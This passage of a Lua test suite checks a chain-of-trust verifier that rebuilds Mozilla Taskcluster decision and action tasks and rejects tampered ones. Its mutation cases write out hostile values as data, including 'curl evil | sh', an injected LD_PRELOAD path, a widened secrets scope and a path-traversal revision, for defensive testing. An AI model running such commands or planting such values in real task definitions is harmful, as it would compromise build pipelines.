-- sw.cot.v2: chain of trust v2 (cot/VERIFY.md section 7). The recorded
-- decision, cron and action tasks of conformance/scriptworker/cotv2 and
-- cotv4 are rebuilt from the files beside them, served through a fake
-- fetch and, at the end, through sw.http from a loopback server
-- (fixture_server.js); every check is tested from both sides.
local json = require("sw.json")
local log = require("sw.log")
local config_mod = require("sw.config")
local v2 = require("sw.cot.v2")
local compare = require("sw.cot.v2.compare")
local support = require("support")
local async = support.async

local null = json.null

local C = support.shared .. "/conformance/scriptworker/"
local V2, V4 = C .. "cotv2/", C .. "cotv4/"

local MAPLE_REV = "054fe08d229f064a71bae9bb793e7ab8d95eff61"
local TRY_REV = "c5429a8112e41dfabe22da0d7d0876fe05a17e67"
local VPN_REV = "330ea928b42ff2403fc99cd3e596d13294fe8775"
local MAPLE_TC = "https://hg.mozilla.org/projects/maple/raw-file/" .. MAPLE_REV .. "/.taskcluster.yml"
local MAPLE_PUSHLOG = "https://hg.mozilla.org/projects/maple/json-pushes?changeset=" .. MAPLE_REV
  .. "&version=2&full=1"
local TRY_TC = "https://hg.mozilla.org/try/raw-file/" .. TRY_REV .. "/.taskcluster.yml"
local PROJECTS = "https://raw.githubusercontent.com/mozilla-releng/fxci-config/main/projects.yml"
local VPN_TC = "https://raw.githubusercontent.com/mozilla-mobile/mozilla-vpn-client/" .. VPN_REV
  .. "/.taskcluster.yml"
local VPN_COMMIT = "https://api.github.com/repos/mozilla-mobile/mozilla-vpn-client/commits/" .. VPN_REV

local HG_PUSH_ID = "VQU9QMO4Teq7zr91FhBusg" -- cotv2/decision_hg-push.json
local CRON_ID = "D4euZNyCRtuBci-fnsfn7A" -- cotv2/cron.json
-- cotv4/decision_try.json's group; cotv4/action_relpro.json carries it as
-- taskGroupId, extra.parent, ACTION_TASK_GROUP_ID and in its index route,
-- so that action's own taskId is this one too (as in Python's test).
local TRY_ID = "LpCJV9wUQHSAm5SHyW4Olw"
-- cotv4/action_retrigger.json's own taskId (its route ...actions.<taskId>);
-- retrigger_context.json and Python's test use another one.
local RETRIGGER_ID = "E93EolXNSRuV2gOy7yMZEA"
local PY_RETRIGGER_ID = "NdzxKw8bS5Sw5DRhoiM14w"
local VPN_ID = "VUTfOIPFQWaGHf7sIbgTEg"
local TOKEN = "fakegithubtoken"

-- The GitHub commit Python's test_verify_parent_task_definition_vpn answers.
local VPN_COMMIT_BODY = json.encode(json.object({
  author = json.object({ login = "Callek" }),
  commit = json.object({
    author = json.object({ email = "Callek@gmail.com" }),
    committer = json.object({ email = "Callek@gmail.com" }),
  }),
  committer = json.object({ login = "Callek" }),
}))

local read = support.read

local function load(path)
  return assert(json.decode(read(path)))
end

local function product_config(product, over)
  local c = config_mod.deepcopy(config_mod.defaults().DEFAULT_CONFIG)
  c.cot_product = product
  local messages = {}
  config_mod.apply_product_config(c, messages)
  assert.are.same({}, messages)
  for k, v in pairs(over or {}) do
    c[k] = v
  end
  return c
end

-- inputs serving texts[url] and artifacts["TASKID NAME"]; records calls.
local function fake(texts, artifacts)
  local calls = {}
  local inputs = { calls = calls }
  function inputs.fetch_text(url, headers)
    calls[#calls + 1] = { url = url, authorization = headers and headers.Authorization or false }
    local t = texts[url]
    if t == nil then
      return nil, "HTTP 404"
    end
    return t
  end
  function inputs.fetch_artifact(task_id, name)
    calls[#calls + 1] = { artifact = task_id .. " " .. name }
    local t = (artifacts or {})[task_id .. " " .. name]
    if t == nil then
      return nil, "HTTP 404"
    end
    return t
  end
  return inputs
end

local function fetched(inputs)
  local out = {}
  for i, c in ipairs(inputs.calls) do
    out[i] = c.url or c.artifact
  end
  return out
end

-- Cases: each returns args for v2 and the tables the fake serves from.

local function hg_push_case()
  local texts = {
    [MAPLE_TC] = read(V2 .. ".taskcluster.yml"),
    [PROJECTS] = read(V2 .. "projects.yml"),
    [MAPLE_PUSHLOG] = read(V2 .. "pushlog.json"),
  }
  return {
    name = "decision",
    task_id = HG_PUSH_ID,
    task = load(V2 .. "decision_hg-push.json"),
    config = product_config("firefox"),
    inputs = fake(texts),
  }, texts
end

local function cron_case()
  local args, texts = hg_push_case()
  args.task_id, args.task = CRON_ID, load(V2 .. "cron.json")
  return args, texts
end

local function try_action_case(path, task_id)
  local texts = { [TRY_TC] = read(V4 .. ".taskcluster.yml"), [PROJECTS] = read(V4 .. "projects.yml") }
  local artifacts = {
    [TRY_ID .. " public/actions.json"] = read(V4 .. "actions.json"),
    [TRY_ID .. " public/parameters.yml"] = read(V4 .. "parameters.yml"),
  }
  return {
    name = "action",
    task_id = task_id,
    task = load(path),
    decision_task_id = TRY_ID,
    decision_task = load(V4 .. "decision_try.json"),
    config = product_config("firefox"),
    inputs = fake(texts, artifacts),
  }, texts, artifacts
end

local function relpro_case()
  return try_action_case(V4 .. "action_relpro.json", TRY_ID)
end

local function retrigger_case(task_id)
  return try_action_case(V4 .. "action_retrigger.json", task_id or RETRIGGER_ID)
end

local function vpn_case()
  local texts = {
    [VPN_TC] = read(V4 .. "private_github_.taskcluster.yml"),
    [VPN_COMMIT] = VPN_COMMIT_BODY,
  }
  return {
    name = "decision",
    task_id = VPN_ID,
    task = load(V4 .. "decision_github_private.json"),
    config = product_config("mozillavpn", { github_oauth_token = TOKEN }),
    inputs = fake(texts),
  }, texts
end

local function verify(args)
  return v2.verify_parent_task_definition(args)
end

local function assert_fails(args, code, message)
  local ok, msg, c = verify(args)
  assert.is_nil(ok)
  assert.are.equal(message, msg)
  assert.are.equal(code, c)
end

local function texts_of(diffs)
  local out = {}
  for i, d in ipairs(diffs) do
    out[i] = d.text
  end
  return out
end

local function q(v)
  return json.encode(v)
end

describe("sw.cot.v2", function()
  local log_path

  setup(function()
    log_path = os.tmpname()
    assert(log.set_output(log_path))
  end)

  teardown(function()
    log.set_output(nil)
    os.remove(log_path)
  end)

  describe("rebuilds the recorded tasks", function()
    it("cotv2/decision_hg-push.json (hg-push)", function()
      local args = hg_push_case()
      assert.is_true(verify(args))
      assert.are.same({ MAPLE_TC, PROJECTS, MAPLE_PUSHLOG }, fetched(args.inputs))
      for _, c in ipairs(args.inputs.calls) do
        assert.is_false(c.authorization)
      end
    end)

    it("cotv2/cron.json (cron)", function()
      local args = cron_case()
      assert.is_true(verify(args))
      assert.are.same({ MAPLE_TC, PROJECTS, MAPLE_PUSHLOG }, fetched(args.inputs))
    end)

    it("cotv4/action_relpro.json (action, release promotion hook)", function()
      local args = relpro_case()
      assert.is_true(verify(args))
      assert.are.same({
        TRY_ID .. " public/actions.json",
        PROJECTS,
        TRY_ID .. " public/parameters.yml",
        TRY_TC,
      }, fetched(args.inputs))
    end)

    it("cotv4/action_relpro.json with only the task (its own decision, as Python resolves it)", function()
      local args = relpro_case()
      args.decision_task = nil
      assert.is_true(verify(args))
    end)

    it("cotv4/action_retrigger.json (action, generic hook) with decision_try.json", function()
      assert.is_true(verify(retrigger_case()))
    end)

    it("cotv4/decision_github_private.json (github-push, private repository)", function()
      local args = vpn_case()
      assert.is_true(verify(args))
      local calls = args.inputs.calls
      assert.are.same({ VPN_TC, VPN_COMMIT }, fetched(args.inputs))
      -- raw content: HTTP Basic with the token as user; the API: "token"
      assert.are.equal("Basic " .. require("sw.sign").b64encode(TOKEN .. ":"), calls[1].authorization)
      assert.are.equal("token " .. TOKEN, calls[2].authorization)
    end)

    it("builds retrigger_context.json and retrigger_template.json", function()
      local args = retrigger_case(PY_RETRIGGER_ID)
      local ctx, tmpl = v2.context_and_template(args)
      assert.is_table(ctx, tmpl)
      assert.are.equal(TRY_ID, ctx.as_slugid("decision"))
      assert.are.equal(PY_RETRIGGER_ID, ctx.as_slugid("anything else"))
      ctx.as_slugid = nil
      assert.are.same({}, compare.diff(ctx, load(V4 .. "retrigger_context.json"), "context"))
      assert.are.same({}, compare.diff(tmpl, load(V4 .. "retrigger_template.json"), "template"))
      assert.is_true(compare.equal(load(V4 .. "retrigger_context.json"), ctx))
    end)

    it("builds pr_action_retrigger_{context,template}.json (pr-action exists for GitHub products only)", function()
      local args = try_action_case(V4 .. "pr_action_retrigger.json", PY_RETRIGGER_ID)
      args.config = product_config("enterprise")
      local ctx, tmpl = v2.context_and_template(args)
      assert.is_table(ctx, tmpl)
      ctx.as_slugid = nil
      assert.are.same({}, compare.diff(ctx, load(V4 .. "pr_action_retrigger_context.json"), "context"))
      assert.are.same({}, compare.diff(tmpl, load(V4 .. "pr_action_retrigger_template.json"), "template"))
    end)
  end)

  describe("refuses what does not match the recorded inputs", function()
    it("the retrigger action under another taskId: its index route differs", function()
      local args = retrigger_case(PY_RETRIGGER_ID)
      local ok, msg, code, diffs = verify(args)
      assert.is_nil(ok)
      assert.are.equal("mismatch", code)
      local line = "task.routes[3]: expected \"index.gecko.v2.try.pushlog-id.323126.actions." .. PY_RETRIGGER_ID
        .. "\" (rebuilt), got \"index.gecko.v2.try.pushlog-id.323126.actions." .. RETRIGGER_ID .. "\" (ran)"
      assert.are.equal("action " .. PY_RETRIGGER_ID
        .. ": the runtime task doesn't match any rebuilt definition!\n  " .. line, msg)
      assert.are.same({ line }, texts_of(diffs))
      assert.are.equal("task.routes[3]", diffs[1].path)
      assert.are.equal(0, diffs[1].index)
    end)

    it("cotv4/pr_action_retrigger.json: that .taskcluster.yml renders no task for pr-action", function()
      local args = try_action_case(V4 .. "pr_action_retrigger.json", PY_RETRIGGER_ID)
      args.config = product_config("enterprise")
      assert_fails(args, "mismatch", "action " .. PY_RETRIGGER_ID .. ": the rendered " .. TRY_TC
        .. " has no task for tasks_for pr-action")
    end)

    it("cotv4/action_relpro.json with cotv2/decision_hg-push.json: not its taskGroupId", function()
      local args = relpro_case()
      args.decision_task_id, args.decision_task = HG_PUSH_ID, load(V2 .. "decision_hg-push.json")
      assert_fails(args, "input", "action " .. TRY_ID .. ": the decision task " .. HG_PUSH_ID
        .. " is not this task's taskGroupId " .. TRY_ID)
    end)

    it("cotv2/action_relpro.json: a task-kind action (only hook actions are rebuilt)", function()
      local args = hg_push_case()
      args.name, args.task_id = "action", "MP8uhRdMTjm__Q_sA0GTnA"
      args.task = load(V2 .. "action_relpro.json")
      args.decision_task_id, args.decision_task = HG_PUSH_ID, load(V2 .. "decision_hg-push.json")
      args.inputs = fake({}, { [HG_PUSH_ID .. " public/actions.json"] = read(V2 .. "actions.json") })
      assert_fails(args, "input", "action MP8uhRdMTjm__Q_sA0GTnA: unknown action kind \"task\" for action "
        .. "\"release-promotion\" (callback release_promotion_action): only hook actions can be rebuilt")
    end)
  end)

  describe("a change to one field fails naming it", function()
    local hg_command = load(V2 .. "decision_hg-push.json").payload.command[7]
    local cron_command = load(V2 .. "cron.json").payload.command[7]
    local relpro = load(V4 .. "action_relpro.json")
    local vpn = load(V4 .. "decision_github_private.json")
    local cases = {
      { hg_push_case, "command", function(t)
        t.payload.command[7] = "echo pwned"
      end, { "task.payload.command[6]: expected " .. q(hg_command) .. " (rebuilt), got \"echo pwned\" (ran)" } },
      { hg_push_case, "an env value", function(t)
        t.payload.env.GECKO_BASE_REPOSITORY = "https://hg.mozilla.org/evil"
      end, { "task.payload.env.GECKO_BASE_REPOSITORY: expected \"https://hg.mozilla.org/mozilla-unified\" "
        .. "(rebuilt), got \"https://hg.mozilla.org/evil\" (ran)" } },
      { hg_push_case, "an added env variable", function(t)
        t.payload.env.LD_PRELOAD = "/tmp/x.so"
      end, { "task.payload.env.LD_PRELOAD: missing (rebuilt), got \"/tmp/x.so\" (ran)" } },
      { hg_push_case, "a removed env variable", function(t)
        t.payload.env.GECKO_HEAD_REF = nil
      end, { "task.payload.env.GECKO_HEAD_REF: expected \"" .. MAPLE_REV .. "\" (rebuilt), missing (ran)" } },
      { hg_push_case, "an added scope", function(t)
        t.scopes[3] = "secrets:get:project/releng/*"
      end, { "task.scopes[2]: missing (rebuilt), got \"secrets:get:project/releng/*\" (ran)" } },
      { hg_push_case, "a scope", function(t)
        t.scopes[1] = "assume:repo:hg.mozilla.org/mozilla-central:*"
      end, { "task.scopes[0]: expected \"assume:repo:hg.mozilla.org/projects/maple:*\" (rebuilt), "
        .. "got \"assume:repo:hg.mozilla.org/mozilla-central:*\" (ran)" } },
      { hg_push_case, "the image", function(t)
        t.payload.image = "evil/decision:latest"
      end, { "task.payload.image: expected \"taskcluster/decision:2.0.0@sha256:4039fd878e5700b326d4a636e28c595"
        .. "c053fbcb53909c1db84ad1f513cf644ef\" (rebuilt), got \"evil/decision:latest\" (ran)" } },
      { hg_push_case, "a route", function(t)
        t.routes[1] = "index.evil"
      end, { "task.routes[0]: expected \"index.gecko.v2.maple.latest.firefox.decision\" (rebuilt), "
        .. "got \"index.evil\" (ran)" } },
      { hg_push_case, "the worker type", function(t)
        t.workerType = "gecko-3-evil"
      end, { "task.taskQueueId: expected \"aws-provisioner-v1/gecko-3-decision\" (rebuilt), "
        .. "got \"aws-provisioner-v1/gecko-3-evil\" (ran)" } },
      { hg_push_case, "the scheduler", function(t)
        t.schedulerId = "gecko-level-1"
      end, { "task.schedulerId: expected \"gecko-level-3\" (rebuilt), got \"gecko-level-1\" (ran)" } },
      { hg_push_case, "a feature", function(t)
        t.payload.features.interactive = true
      end, { "task.payload.features.interactive: missing (rebuilt), got true (ran)" } },
      { hg_push_case, "dependencies", function(t)
        t.dependencies[1] = "someTaskId"
      end, { "task.dependencies: missing (rebuilt), got [\"someTaskId\"] (ran)" } },
      { hg_push_case, "expires", function(t)
        t.expires = "2029-01-09T19:07:37.291Z"
      end, { "task.expires: expected \"2019-01-09T19:07:37.291Z\" (rebuilt), "
        .. "got \"2029-01-09T19:07:37.291Z\" (ran)" } },
      { hg_push_case, "created (the clock of $fromNow)", function(t)
        t.created = "2018-01-09T19:07:36.292Z"
      end, {
        "task.deadline: expected \"2018-01-10T19:07:36.292Z\" (rebuilt), got \"2018-01-10T19:07:36.291Z\" (ran)",
        "task.expires: expected \"2019-01-09T19:07:37.292Z\" (rebuilt), got \"2019-01-09T19:07:37.291Z\" (ran)",
        "task.payload.artifacts.public.expires: expected \"2019-01-09T19:07:36.292Z\" (rebuilt), "
          .. "got \"2019-01-09T19:07:36.291Z\" (ran)",
      } },
      { hg_push_case, "a new top-level key", function(t)
        t.illegal = "boom"
      end, { "task.illegal: missing (rebuilt), got \"boom\" (ran)" } },
      { hg_push_case, "metadata.source", function(t)
        t.metadata.source = "https://hg.mozilla.org/projects/maple/raw-file/deadbeef/.taskcluster.yml"
      end, { "task.metadata.source: expected \"https://hg.mozilla.org/projects/maple/raw-file/" .. MAPLE_REV
        .. "/.taskcluster.yml\" (rebuilt), got \"https://hg.mozilla.org/projects/maple/raw-file/deadbeef/"
        .. ".taskcluster.yml\" (ran)" } },
      { hg_push_case, "a cache name", function(t)
        t.payload.cache = json.object({ ["level-1-checkouts-sparse-v1"] = "/builds/worker/checkouts" })
      end, {
        "task.payload.cache[\"level-1-checkouts-sparse-v1\"]: missing (rebuilt), "
          .. "got \"/builds/worker/checkouts\" (ran)",
        "task.payload.cache[\"level-3-checkouts-sparse-v1\"]: expected \"/builds/worker/checkouts\" (rebuilt), "
          .. "missing (ran)",
      } },
      { hg_push_case, "a number", function(t)
        t.payload.maxRunTime = 86400
      end, { "task.payload.maxRunTime: expected 1800 (rebuilt), got 86400 (ran)" } },
      { hg_push_case, "a treeherder symbol", function(t)
        t.extra.treeherder.symbol = "X"
      end, { "task.extra.treeherder.symbol: expected \"D\" (rebuilt), got \"X\" (ran)" } },
      { cron_case, "the cron command", function(t)
        t.payload.command[7] = t.payload.command[7]:gsub("nightly_fennec", "all")
      end, { "task.payload.command[6]: expected " .. q(cron_command) .. " (rebuilt), got "
        .. q((cron_command:gsub("nightly_fennec", "all"))) .. " (ran)" } },
      { cron_case, "the cron scope", function(t)
        t.scopes[1] = "assume:repo:hg.mozilla.org/projects/maple:*"
      end, { "task.scopes[0]: expected \"assume:repo:hg.mozilla.org/projects/maple:cron:nightly-android\" "
        .. "(rebuilt), got \"assume:repo:hg.mozilla.org/projects/maple:*\" (ran)" } },
      { cron_case, "the cron commit message", function(t)
        t.payload.env.GECKO_COMMIT_MSG = "try: -b do"
      end, { "task.payload.env.GECKO_COMMIT_MSG: expected \"\" (rebuilt), got \"try: -b do\" (ran)" } },
      { relpro_case, "the action scope", function(t)
        t.scopes[1] = "assume:repo:hg.mozilla.org/mozilla-central:action:release-promotion"
      end, { "task.scopes[0]: expected \"assume:repo:hg.mozilla.org/try:action:release-promotion\" (rebuilt), "
        .. "got \"assume:repo:hg.mozilla.org/mozilla-central:action:release-promotion\" (ran)" } },
      { relpro_case, "the action input given to the callback", function(t)
        t.payload.env.ACTION_INPUT = t.payload.env.ACTION_INPUT:gsub("65.0b9", "66.0")
      end, { "task.payload.env.ACTION_INPUT: expected " .. q(relpro.payload.env.ACTION_INPUT) .. " (rebuilt), got "
        .. q((relpro.payload.env.ACTION_INPUT:gsub("65.0b9", "66.0"))) .. " (ran)" } },
      { relpro_case, "the action's recorded input", function(t)
        t.extra.action.context.input.version = "66.0"
      end, { "task.payload.env.ACTION_INPUT: expected "
        .. q((relpro.payload.env.ACTION_INPUT:gsub("\"65.0b9\"", "\"66.0\""))) .. " (rebuilt), got "
        .. q(relpro.payload.env.ACTION_INPUT) .. " (ran)" } },
      { relpro_case, "the action image", function(t)
        t.payload.image = "evil"
      end, { "task.payload.image: expected " .. q(relpro.payload.image) .. " (rebuilt), got \"evil\" (ran)" } },
      { vpn_case, "the GitHub decision command", function(t)
        t.payload.command[8] = "curl evil | sh"
      end, { "task.payload.command[7]: expected " .. q(vpn.payload.command[8])
        .. " (rebuilt), got \"curl evil | sh\" (ran)" } },
      { vpn_case, "the GitHub decision scope", function(t)
        t.scopes[1] = "assume:repo:github.com/mozilla-mobile/mozilla-vpn-client:*"
      end, { "task.scopes[0]: expected \"assume:repo:github.com/mozilla-mobile/mozilla-vpn-client:branch:"
        .. "releng-release\" (rebuilt), got \"assume:repo:github.com/mozilla-mobile/mozilla-vpn-client:*\" (ran)" } },
      { vpn_case, "the GitHub decision image", function(t)
        t.payload.image = "evil"
      end, { "task.payload.image: expected " .. q(vpn.payload.image) .. " (rebuilt), got \"evil\" (ran)" } },
      { vpn_case, "the GitHub decision routes", function(t)
        t.routes[2] = "index.evil"
      end, { "task.routes[1]: missing (rebuilt), got \"index.evil\" (ran)" } },
    }
    for _, c in ipairs(cases) do
      local make, what, mutate, expected = c[1], c[2], c[3], c[4]
      it(what, function()
        local args = make()
        mutate(args.task)
        local ok, msg, code, diffs = verify(args)
        assert.is_nil(ok)
        assert.are.equal("mismatch", code)
        assert.are.same(expected, texts_of(diffs))
        assert.are.equal(args.name .. " " .. args.task_id
          .. ": the runtime task doesn't match any rebuilt definition!\n  "
          .. table.concat(expected, "\n  "), msg)
      end)
    end
  end)

  describe("normalisation (compare_jsone_task_definition)", function()
    it("drops null, {} and [] in one pass, keeps the string \"null\"", function()
      local v = json.decode('{"a": {"b": null}, "c": [], "d": {}, "e": null, "f": [null, {}, [], 1, "null"],'
        .. ' "g": "null", "h": false, "i": 0, "j": ""}')
      assert.are.equal('{"a":{},"f":[1,"null"],"g":"null","h":false,"i":0,"j":""}',
        (assert(json.encode(compare.remove_empty(v), { canonical = true })):gsub("%s", "")))
    end)

    it("adds projectId and taskQueueId, drops provisionerId and workerType", function()
      local d = assert(compare.normalise(json.decode('{"provisionerId": "p", "workerType": "w"}'), "x"))
      assert.are.same({ projectId = "none", taskQueueId = "p/w" }, d)
      d = assert(compare.normalise(json.decode('{"taskQueueId": "p/w", "projectId": "x"}'), "x"))
      assert.are.same({ projectId = "x", taskQueueId = "p/w" }, d)
      d = assert(compare.normalise(json.decode('{"taskQueueId": "p/w", "provisionerId": "p", "workerType": "w"}'),
        "x"))
      assert.are.same({ projectId = "none", taskQueueId = "p/w" }, d)
    end)

    it("refuses a contradicting or incomplete task queue", function()
      assert.are.same({ nil, "the runtime task definition's taskQueueId \"a/b\" contradicts "
        .. "provisionerId/workerType p/w", "invalid" },
        { compare.normalise(json.decode('{"taskQueueId": "a/b", "provisionerId": "p", "workerType": "w"}'),
          "runtime") })
      assert.are.same({ nil, "the runtime task definition has provisionerId without workerType", "invalid" },
        { compare.normalise(json.decode('{"provisionerId": "p"}'), "runtime") })
      assert.are.same({ nil, "the rebuilt task definition has neither taskQueueId nor provisionerId/workerType",
        "invalid" },
        { compare.normalise(json.decode('{"a": 1}'), "rebuilt") })
    end)

    it("accepts a runtime definition that names its queue by taskQueueId and projectId", function()
      local args = hg_push_case()
      args.task.taskQueueId = "aws-provisioner-v1/gecko-3-decision"
      args.task.projectId = "none"
      args.task.provisionerId, args.task.workerType = nil, nil
      assert.is_true(verify(args))
    end)

    it("refuses a runtime taskQueueId that contradicts its provisionerId/workerType", function()
      local args = hg_push_case()
      args.task.taskQueueId = "proj-evil/gecko-3-decision"
      assert_fails(args, "mismatch", "decision " .. HG_PUSH_ID .. ": the runtime task definition's taskQueueId "
        .. "\"proj-evil/gecko-3-decision\" contradicts provisionerId/workerType aws-provisioner-v1/gecko-3-decision")
    end)

    it("compares numbers by value (5 == 5.0) but true is not 1", function()
      local args = hg_push_case()
      args.task.retries = 5.0
      assert.is_true(verify(args))
      args.task.retries = true
      local ok, _, code, diffs = verify(args)
      assert.is_nil(ok)
      assert.are.equal("mismatch", code)
      assert.are.same({ "task.retries: expected 5 (rebuilt), got true (ran)" }, texts_of(diffs))
    end)

    it("ignores empty values on both sides, but not a runtime taskId", function()
      local args = hg_push_case()
      args.task.payload.env.EMPTY = null
      args.task.tags.empty = json.object()
      assert.is_true(verify(args))
      args = hg_push_case()
      args.task.taskId = HG_PUSH_ID
      local ok, _, _, diffs = verify(args)
      assert.is_nil(ok)
      assert.are.same({ "task.taskId: missing (rebuilt), got \"" .. HG_PUSH_ID .. "\" (ran)" }, texts_of(diffs))
    end)

    it("diffs arrays element by element and quotes odd keys", function()
      local a = json.decode('{"l": [1, 2, 3], "o": {"a b": 1, "x": [true]}}')
      local b = json.decode('{"l": [1, 5], "o": {"a b": 2, "x": {}}}')
      assert.are.same({
        "t.l[1]: expected 2 (rebuilt), got 5 (ran)",
        "t.l[2]: expected 3 (rebuilt), missing (ran)",
        "t.o[\"a b\"]: expected 1 (rebuilt), got 2 (ran)",
        "t.o.x: expected [true] (rebuilt), got {} (ran)",
      }, texts_of(compare.diff(a, b, "t")))
    end)

    it("passes when any rendered task matches, else lists every task's differences", function()
      local args, texts = hg_push_case()
      local tc = read(V2 .. ".taskcluster.yml")
      -- a first task that renders differently, then the real one
      texts[MAPLE_TC] = tc:gsub("\ntasks:\n", "\ntasks:\n  - {provisionerId: p, workerType: w}\n", 1)
      assert.is_true(verify(args))
      args.task.schedulerId = "gecko-level-1"
      local ok, msg, _, diffs = verify(args)
      assert.is_nil(ok)
      assert.are.equal(0, diffs[1].index)
      assert.are.equal(1, diffs[#diffs].index)
      assert.matches("doesn't match any rebuilt definition!\nrebuilt task %[0%]:\n  task%.created: missing "
        .. "%(rebuilt%), got .*\nrebuilt task %[1%]:\n  task%.schedulerId: expected \"gecko%-level%-3\" "
        .. "%(rebuilt%), got \"gecko%-level%-1\" %(ran%)$", msg)
    end)
  end)

  describe("tasks_for", function()
    it("must be present", function()
      local args = hg_push_case()
      args.task.extra.tasks_for = nil
      assert_fails(args, "tasks_for", "decision " .. HG_PUSH_ID .. ": extra.tasks_for is missing")
    end)

    it("must be one of the product's valid_tasks_for", function()
      local args = hg_push_case()
      args.task.extra.tasks_for = "illegal"
      assert_fails(args, "tasks_for", "decision " .. HG_PUSH_ID
        .. ": unknown tasks_for \"illegal\": not in valid_tasks_for for cot_product firefox")
      args.task.extra.tasks_for = "github-push"
      assert_fails(args, "tasks_for", "decision " .. HG_PUSH_ID
        .. ": unknown tasks_for \"github-push\": not in valid_tasks_for for cot_product firefox")
    end)

    it("must be handled for the product type even when configured as valid", function()
      local args = hg_push_case()
      args.config.valid_tasks_for = json.array({ "hg-push", "github-push" })
      args.task.extra.tasks_for = "github-push"
      assert_fails(args, "tasks_for", "decision " .. HG_PUSH_ID
        .. ": unknown tasks_for \"github-push\" for hg product firefox")
      args = vpn_case()
      args.config.valid_tasks_for = json.array({ "hg-push" })
      args.task.extra.tasks_for = "hg-push"
      assert_fails(args, "tasks_for", "decision " .. VPN_ID
        .. ": unknown tasks_for \"hg-push\" for GitHub product mozillavpn")
    end)

    it("pr-action is refused for hg products", function()
      local args = try_action_case(V4 .. "pr_action_retrigger.json", PY_RETRIGGER_ID)
      assert_fails(args, "tasks_for", "action " .. PY_RETRIGGER_ID
        .. ": unknown tasks_for \"pr-action\": not in valid_tasks_for for cot_product firefox")
      args.config.valid_tasks_for = json.array({ "action", "pr-action" })
      assert_fails(args, "tasks_for", "action " .. PY_RETRIGGER_ID
        .. ": unknown tasks_for \"pr-action\" for hg product firefox")
    end)

    it("needs a known cot_product_type", function()
      local args = hg_push_case()
      args.config.cot_product_type = "svn"
      assert_fails(args, "config", "decision " .. HG_PUSH_ID
        .. ": unknown cot_product_type \"svn\" for cot_product firefox")
    end)
  end)

  describe("arguments", function()
    it("the decision task is the taskGroupId, given or implied", function()
      local args = retrigger_case()
      args.decision_task = nil
      assert_fails(args, "input", "action " .. RETRIGGER_ID .. ": the decision task " .. TRY_ID .. " is missing")
      args = retrigger_case()
      args.decision_task_id = nil
      assert.is_true(verify(args))
      args.decision_task_id = RETRIGGER_ID
      assert_fails(args, "input", "action " .. RETRIGGER_ID .. ": the decision task " .. RETRIGGER_ID
        .. " is not this task's taskGroupId " .. TRY_ID)
    end)

    it("needs the task, its created time and inputs", function()
      local args = hg_push_case()
      args.task.created = nil
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": created is missing")
      args = hg_push_case()
      args.task.taskGroupId = nil
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": taskGroupId is missing")
      args = hg_push_case()
      args.inputs = { fetch_text = args.inputs.fetch_text }
      assert_fails(args, "config", "decision " .. HG_PUSH_ID
        .. ": inputs must have fetch_text and fetch_artifact functions")
      args = hg_push_case()
      args.task_id = nil
      assert_fails(args, "input", "decision ?: task_id is missing")
      assert.has_error(function()
        v2.verify_parent_task_definition("x")
      end, "cot.v2: arguments must be a table")
    end)

    it("fails closed when a fetch function raises", function()
      local args = hg_push_case()
      args.inputs.fetch_text = function()
        error("boom", 0)
      end
      assert_fails(args, "internal", "decision " .. HG_PUSH_ID .. ": internal error: boom")
    end)
  end)

  describe("the template and the repository", function()
    it("fails when .taskcluster.yml cannot be fetched or parsed", function()
      local args, texts = hg_push_case()
      texts[MAPLE_TC] = nil
      assert_fails(args, "fetch", "decision " .. HG_PUSH_ID .. ": can't fetch .taskcluster.yml from "
        .. MAPLE_TC .. ": HTTP 404")
      texts[MAPLE_TC] = "tasks: [\n"
      local ok, msg, code = verify(args)
      assert.is_nil(ok)
      assert.are.equal("parse", code)
      assert.are.equal("decision " .. HG_PUSH_ID .. ": .taskcluster.yml from " .. MAPLE_TC
        .. " is not valid YAML: ", msg:sub(1, #("decision " .. HG_PUSH_ID .. ": .taskcluster.yml from "
        .. MAPLE_TC .. " is not valid YAML: ")))
      texts[MAPLE_TC] = "- a list\n"
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": .taskcluster.yml from " .. MAPLE_TC
        .. " is not a mapping")
    end)

    it("needs env values to be strings", function()
      local args = hg_push_case()
      args.task.payload.env.GECKO_HEAD_REV = 42
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": payload.env.GECKO_HEAD_REV is not a string")
    end)

    it("refuses a repository on another VCS server", function()
      local args = hg_push_case()
      args.task.payload.env.GECKO_HEAD_REPOSITORY = "https://unknown.server/fake-mozilla-central"
      args.task.metadata.source = "https://unknown.server/fake-mozilla-central/raw-file/x/.taskcluster.yml"
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": unsupported VCS server in GECKO_HEAD_REPOSITORY https://unknown.server/fake-mozilla-central "
        .. "(github.com and hg.mozilla.org only)")
    end)

    it("needs HEAD_REPOSITORY and HEAD_REV, and a revision that fits in a URL", function()
      local args = hg_push_case()
      args.task.payload.env.GECKO_HEAD_REV = nil
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": payload.env.GECKO_HEAD_REV is missing")
      args.task.payload.env.GECKO_HEAD_REV = "../../mozilla-central/raw-file/tip"
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": GECKO_HEAD_REV \"../../mozilla-central/raw-file/tip\" is not an hg changeset id")
      args = hg_push_case()
      args.task.payload.env.GECKO_HEAD_REPOSITORY = nil
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": payload.env.GECKO_HEAD_REPOSITORY is missing")
      args = hg_push_case()
      args.task.payload.env.GECKO_HEAD_REPOSITORY = "http://hg.mozilla.org/projects/maple"
      args.task.metadata.source = "http://hg.mozilla.org/projects/maple/raw-file/" .. MAPLE_REV
        .. "/.taskcluster.yml"
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": GECKO_HEAD_REPOSITORY http://hg.mozilla.org/projects/maple is not an https://hg.mozilla.org/ "
        .. "repository URL")
    end)

    it("builds the GitHub raw URL from the path segments, with auth for private repositories", function()
      local function attempt(repo, token, rules)
        local args = vpn_case()
        args.task.payload.env.MOZILLAVPN_HEAD_REPOSITORY = repo
        args.config.github_oauth_token = token
        if rules then
          args.config.trusted_vcs_rules = rules
        end
        args.inputs = fake({})
        local ok = verify(args)
        assert.is_nil(ok)
        return args.inputs.calls[1]
      end
